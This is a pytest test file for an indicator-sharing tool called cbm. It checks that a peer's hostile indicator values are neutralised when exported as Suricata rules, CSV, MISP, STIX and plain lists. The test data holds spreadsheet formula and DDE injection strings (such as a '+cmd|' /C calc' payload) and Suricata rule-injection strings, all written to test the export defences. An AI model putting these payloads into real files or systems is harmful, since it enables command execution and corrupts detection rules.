"""What cbm hands out, attacked with a peer's values: RU signs indicators whose values and texts are chosen to
break or inject into the files other tools read (a quote, a semicolon, a pipe, a backslash in a URL; a Suricata
variable; an IDN domain; a formula for a spreadsheet; a very long URL; ranges a firewall would read as "the whole
internet"), ships them to US in a real bundle, and US exports them in every format. Each file is read back by
the real tool: Suricata rules by idstools' rule parser, CSV by Python's csv module, MISP by PyMISP (strict), STIX
by stix2 (allow_custom=False) and the OASIS stix2-validator; a plain list line by line
(docs/adr/0264-hostile-values-in-and-out.md)."""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path

import pytest
import stix2
from idstools import rule as ids_rule
from pymisp import MISPAttribute, MISPObject
from stix2validator import ValidationOptions, validate_string

from cbm.measures.indicators.formats.list_cells import split_items
from tests.conftest import Party

URLS = [
    'http://evil.example/a";alert(msg:"x";sid:1;)',
    "http://evil.example/x|41|y", "http://evil.example/a\\b", "http://evil.example/a'b;c",
    "http://evil.example/$HOME_NET/)", "http://evil.example/%0a%0d", "http://b\u00fccher.example/\u00fc",
    "http://evil.example/" + "a" * 8000,
]
DOMAINS = ["b\u00fccher.example", "xn--80ak6aa92e.example"]
EMAILS = ['"a;b"@evil.example', "=1+1@evil.example"]
NAMES = ['x"; sid:1; msg:"y', "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0",
         "-2+3", "@SUM(1,1)", "a|b\\c;d", "'=already an apostrophe"]
RANGES = ["0.0.0.0/1", "128.0.0.0/1", "::/1", "8000::/1"]
# list items a CSV cell's separators would cut (ADR 0277), and descriptions with a lone carriage return
LABELS = ["APT28, Fancy Bear", "a;b|c", " edge space ", "[not json", '["looks","like json"]', "=SUM(1,2)",
          "line\rbreak"]
TYPES = ["malicious-activity", "odd, type", "=x;y"]
DESCRIPTIONS = ["windows\r\nline breaks", "a lone\rcarriage return"]
VALUES = [*URLS, *DOMAINS, *EMAILS, *RANGES]


@pytest.fixture
def exported(us_ru: tuple[Party, Party], tmp_path: Path) -> dict[str, str]:
    """US's exports in every format (flagged ones included), after landing RU's hostile indicators from a real
    bundle."""
    us, ru = us_ru
    for n, value in enumerate(VALUES):
        name = NAMES[n % len(NAMES)]
        r = ru.cli("indicators", "add", "--value", value, "--tlp", "GREEN", "--name", name,
                   "--description", f"{name}\nsecond line, \"quoted\"; =1+1" if n > 1 else DESCRIPTIONS[n],
                   "--label", name, "--label", LABELS[n % len(LABELS)], "--label", LABELS[(n + 3) % len(LABELS)],
                   "--indicator-type", TYPES[n % len(TYPES)], "--indicator-type", TYPES[(n + 1) % len(TYPES)],
                   "--sector", "energy", "--sector", "finance")
        assert r.exit_code == 0, (value, r.stderr)
    bundle = tmp_path / "ru-to-us.cbm"
    assert ru.cli("bundle", "export", "--to", "US", "-o", str(bundle)).exit_code == 0
    r = us.cli("bundle", "import", str(bundle))
    assert r.exit_code == 0, r.stderr
    out: dict[str, str] = {}
    for fmt in ("stix", "csv", "txt", "suricata", "misp"):
        path = tmp_path / f"export.{fmt}"
        r = us.cli("indicators", "export", "--format", fmt, "--include-flagged", "-o", str(path))
        assert r.exit_code == 0, (fmt, r.stderr)
        out[fmt] = path.read_bytes().decode("utf-8")  # as written: no newline translation
    return out


def _unescaped(content: str) -> bytes:
    """A Suricata content string's bytes: |hex| runs decoded."""
    out = b""
    for n, part in enumerate(content.split("|")):
        out += bytes.fromhex(part) if n % 2 else part.encode("ascii")
    return out


def test_suricata_rules_parse_one_per_line_and_match_the_values_bytes(exported):
    lines = exported["suricata"].splitlines()
    parsed = [ids_rule.parse(line) for line in lines]
    assert all(rule is not None for rule in parsed), [line for line, r in zip(lines, parsed, strict=True) if r is None]
    assert len({r.sid for r in parsed}) == len(parsed)  # nothing a value holds made a rule of its own
    # one rule per URL (the long one left out), a DNS and a TLS rule per domain, one per range
    assert len(parsed) == (len(URLS) - 1) + 2 * len(DOMAINS) + len(RANGES)
    for line, rule in zip(lines, parsed, strict=True):
        assert len(line.encode("utf-8")) + 1 <= 8191  # Suricata reads 8,192 bytes a line
        assert rule["action"] == "alert" and rule["msg"] and '"' not in rule["msg"]
        contents = [o["value"] for o in rule["options"] if o["name"] == "content"]
        assert all(c.startswith('"') and c.endswith('"') and '"' not in c[1:-1] and ";" not in c[1:-1]
                   and c.isascii() for c in contents), line  # a non-ASCII byte as |hex|: what the wire holds
    uris = {_unescaped(o["value"][1:-1]) for r in parsed for o in r["options"]
            if o["name"] == "content" and o["value"].startswith('"/')}
    wanted = {u.encode().split(b"example", 1)[1] for u in URLS if len(u) < 1000}
    assert uris == wanted


def test_a_value_too_long_for_a_suricata_rule_is_skipped_and_said(us_ru, tmp_path):
    us, _ = us_ru
    long_url = "http://evil.example/" + "a" * 8000
    assert us.cli("indicators", "add", "--value", long_url, "--tlp", "GREEN").exit_code == 0
    assert us.cli("indicators", "add", "--value", "http://evil.example/short", "--tlp", "GREEN").exit_code == 0
    r = us.cli("indicators", "export", "--format", "suricata", "--json", "-o", str(tmp_path / "rules"))
    assert r.exit_code == 0, r.stderr
    assert r.json()["skipped"] == {"values too long for one Suricata rule (8,191 bytes a line)": 1}
    rules = (tmp_path / "rules").read_text().splitlines()
    assert len(rules) == 1 and "short" in rules[0]


def test_plain_list_is_one_value_a_line(exported):
    lines = exported["txt"].split("\n")
    assert lines[-1] == ""  # ends with a newline
    assert sorted(lines[:-1]) == sorted(_stored_forms())


def _stored_forms() -> list[str]:
    """VALUES as cbm stores them: IDN domains and hosts in their ASCII (punycode) form."""
    return [v.replace("b\u00fccher.example", "xn--bcher-kva.example") for v in VALUES]


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _as_read(cell: str) -> str:
    """A cell as cbm's CSV import reads it: the one apostrophe the export put before a formula taken away."""
    return cell[1:] if cell.startswith("'") and cell.lstrip("'").startswith(FORMULA_START) else cell


def test_csv_keeps_every_row_whole_and_no_cell_a_spreadsheet_would_run(exported):
    rows = list(csv.reader(io.StringIO(exported["csv"], newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == len(VALUES) and all(len(row) == len(header) for row in body)
    # no cell starts with what a spreadsheet runs as a formula (ADR 0268): the peer's formulas show as text
    assert [cell for row in body for cell in row if cell.startswith(FORMULA_START)] == []
    assert "'=1+1@evil.example" in {row[header.index("value")] for row in body}
    assert sorted(_as_read(row[header.index("value")]) for row in body) == sorted(_stored_forms())
    names = {_as_read(row[header.index("name")]) for row in body}
    assert names == set(NAMES)  # the peer's text, whole, once the export's one apostrophe is read away
    descriptions = {row[header.index("description")] for row in body}
    assert all(d.endswith('second line, "quoted"; =1+1') for d in descriptions - set(DESCRIPTIONS))
    assert set(DESCRIPTIONS) <= descriptions  # a lone carriage return quoted: the row stays whole


def test_csv_export_imported_again_gives_back_every_value_and_text_exactly(exported, make_party, tmp_path):
    """The export's apostrophes are the only ones the import takes away: a third store importing US's CSV
    export holds the peer's values, names and descriptions exactly (a text that truly starts with an apostrophe
    too), and every list (a label or an indicator type holding a comma, a semicolon, a pipe, a bracket, space at
    its edge, a line break: ADR 0277): its own CSV export writes the same cells."""
    eu = make_party("EU")
    path = tmp_path / "export.csv"
    path.write_bytes(exported["csv"].encode("utf-8"))
    r = eu.cli("indicators", "import", str(path), "--json")
    assert r.exit_code == 0, r.stderr
    again = tmp_path / "again.csv"
    assert eu.cli("indicators", "export", "--format", "csv", "--include-flagged", "-o", str(again)).exit_code == 0

    def texts(text: str) -> list[tuple[str, ...]]:
        header, *body = csv.reader(io.StringIO(text, newline=""))
        return sorted(tuple(row[header.index(c)] for c in ("value", "name", "description", "sectors", "labels",
                                                            "indicator_types"))
                      for row in body)

    assert texts(again.read_bytes().decode("utf-8")) == texts(exported["csv"])
    header, *body = csv.reader(io.StringIO(exported["csv"], newline=""))
    lists = {_as_read(row[header.index("value")]): [split_items(_as_read(row[header.index(c)]))
                                                    for c in ("labels", "indicator_types")] for row in body}
    for n, value in enumerate(_stored_forms()):  # each item whole, in the export and so in the third store
        labels, types = lists[value]
        assert set(labels) == {NAMES[n % len(NAMES)], LABELS[n % len(LABELS)], LABELS[(n + 3) % len(LABELS)]}
        assert set(types) == {TYPES[n % len(TYPES)], TYPES[(n + 1) % len(TYPES)]}


def test_misp_event_loads_in_pymisp_strict_mode(exported):
    event = json.loads(exported["misp"])["Event"]
    values = []
    for attribute in event["Attribute"]:
        MISPAttribute(strict=True).from_dict(**copy.deepcopy(attribute))
        values.append(attribute["value"])
    for obj in event.get("Object", []):
        misp_object = MISPObject(obj["name"], strict=True)
        misp_object.from_dict(**copy.deepcopy(obj))
        misp_object.to_dict(strict=True)
    assert sorted(values) == sorted(_stored_forms())


def test_stix_bundle_parses_strictly_and_validates(exported):
    bundle = stix2.parse(exported["stix"], allow_custom=False)
    patterns = [o.pattern for o in bundle.objects if o.type == "indicator"]
    assert len(patterns) == len(VALUES)
    result = validate_string(exported["stix"], ValidationOptions(version="2.1", strict=False))
    assert result.is_valid, [str(e) for o in result.object_results for e in o.errors]


def test_ranges_that_together_cover_everything_stay_out_of_a_firewall_list(us_ru, tmp_path):
    """0.0.0.0/1 and 128.0.0.0/1 (and ::/1, 8000::/1) are each flagged as broad: a blocklist leaves every one
    out unless the user puts flagged ones back (--include-flagged, the user's call: ADR 0264)."""
    us, ru = us_ru
    for value in (*RANGES, "203.0.113.0/24"):
        assert ru.cli("indicators", "add", "--value", value, "--tlp", "GREEN").exit_code == 0
    bundle = tmp_path / "ru-to-us.cbm"
    assert ru.cli("bundle", "export", "--to", "US", "-o", str(bundle)).exit_code == 0
    assert us.cli("bundle", "import", str(bundle)).exit_code == 0
    for fmt in ("txt", "suricata", "csv"):
        r = us.cli("indicators", "export", "--format", fmt, "-o", str(tmp_path / f"out.{fmt}"))
        assert r.exit_code == 0, r.stderr
        text = (tmp_path / f"out.{fmt}").read_text()
        assert "203.0.113.0/24" in text and not any(value in text for value in RANGES), (fmt, text)


@pytest.mark.parametrize("created", ["0000-01-01T00:00:00Z", "2026-13-01T00:00:00Z", "garbage", "2026-11-01",
                                     "2026-11-01T00:00:00+03:00"])
def test_a_stored_created_that_is_no_stix_timestamp_never_makes_an_export_invalid(us_ru, tmp_path, created):
    """A peer's signed batch (or a store landed before the import refused them) holding a ``created`` that is no
    STIX timestamp: the STIX export writes the version's time instead, and the bundle parses strictly."""
    from tests.security.test_malformed_records import land

    us, ru = us_ru
    sid = "indicator--0b6c7a2e-5d4f-4e3a-8b1c-2d3e4f5a6b7c"
    land(ru, us, "indicators.batch", {"fields": ["id", "type", "value", "created"],
                                      "rows": [[sid, "domain-name", "evil.example", created]]}, tmp_path / "b.cbmb")
    for fmt in ("stix", "misp"):
        r = us.cli("indicators", "export", "--format", fmt, "-o", str(tmp_path / f"out.{fmt}"))
        assert r.exit_code == 0, r.stderr
    text = (tmp_path / "out.stix").read_text()
    bundle = stix2.parse(text, allow_custom=False)
    (indicator,) = [o for o in bundle.objects if o.type == "indicator"]
    assert indicator.id == sid and indicator.created == indicator.modified
    assert validate_string(text, ValidationOptions(version="2.1", strict=False)).is_valid


def test_csv_export_neutralises_a_peer_batchs_id_type_and_times_too(us_ru, tmp_path):
    """A peer's signed batch holds its rows' id, type, valid_from and valid_until only to the single-line rule:
    a spreadsheet would run ``=1+1`` or ``+cmd|' /C calc'!A0`` there just as in a name. Every such cell goes out
    behind one apostrophe, and the CSV import reads back exactly what the peer signed (ADR 0267)."""
    from cbm.measures.indicators.formats.csv import as_read
    from tests.security.test_malformed_records import land

    us, ru = us_ru
    # an id or a type like these makes the whole batch malformed at landing (ADR 0269): it reaches no export
    land(ru, us, "indicators.batch", {"fields": ["id", "type", "value"], "rows": [["=1+1", "=2+2", "evil.example"]]},
         tmp_path / "a.cbmb")
    signed = ["indicator--0b6c7a2e-5d4f-4e3a-8b1c-2d3e4f5a6b7c", "domain-name", "evil.example",
              '=HYPERLINK("http://evil.example/")', "+cmd|' /C calc'!A0"]
    land(ru, us, "indicators.batch", {"fields": ["id", "type", "value", "valid_until", "valid_from"],
                                      "rows": [signed]}, tmp_path / "b.cbmb")
    r = us.cli("indicators", "export", "--format", "csv", "--include-flagged", "-o", str(tmp_path / "out.csv"))
    assert r.exit_code == 0, r.stderr
    header, row = csv.reader(io.StringIO((tmp_path / "out.csv").read_text(encoding="utf-8"), newline=""))
    assert [cell for cell in row if cell.startswith(FORMULA_START)] == [], row
    cells = dict(zip(header, row, strict=True))
    assert [as_read(cells[k]) for k in ("id", "type", "value", "valid_until", "valid_from")] == signed


def test_a_peer_batchs_address_or_id_never_writes_suricata_rule_text(us_ru, tmp_path):
    """A peer's signed batch holds a row's value and id only to the single-line rule, and the Suricata export put
    both in the rule as they were: an address ``203.0.113.9] any (msg:"own"; filestore; sid:5;) #`` became the
    peer's own rule, ``::1,$EXTERNAL_NET`` a rule on all outside traffic, an id ``x; noalert;`` an option. Such
    rows never land (ADR 0269: the id makes its batch malformed, the values are left out of theirs); honest rows
    beside them still make their rules."""
    from tests.security.test_malformed_records import land

    us, ru = us_ru
    land(ru, us, "indicators.batch", {"fields": ["id", "type", "value"], "rows": [
        ["x; noalert; metadata: y", "domain-name", "evil.example"]]}, tmp_path / "a.cbmb")
    land(ru, us, "indicators.batch", {"fields": ["id", "type", "value"], "rows": [
        ["indicator--0b6c7a2e-5d4f-4e3a-8b1c-2d3e4f5a6b7c", "ipv4-addr",
         '203.0.113.9] any (msg:"own"; filestore; sid:5;) #'],
        ["indicator--1b6c7a2e-5d4f-4e3a-8b1c-2d3e4f5a6b7c", "ipv6-addr", "::1,$EXTERNAL_NET"],
        ["indicator--3b6c7a2e-5d4f-4e3a-8b1c-2d3e4f5a6b7c", "ipv4-addr", "198.51.100.7"]]}, tmp_path / "b.cbmb")
    out = tmp_path / "out.rules"
    r = us.cli("indicators", "export", "--format", "suricata", "--include-flagged", "-o", str(out), "--json")
    assert r.exit_code == 0, r.stderr
    lines = out.read_text(encoding="utf-8").splitlines()
    parsed = [ids_rule.parse(line) for line in lines]
    assert len(lines) == 1 and parsed[0] is not None and "[198.51.100.7]" in lines[0], lines
    assert not any(word in lines[0] for word in ("filestore", "EXTERNAL_NET", "noalert")), lines
    assert sum(r.json()["skipped"].values()) == 0, r.stdout  # nothing left for the export's own defence
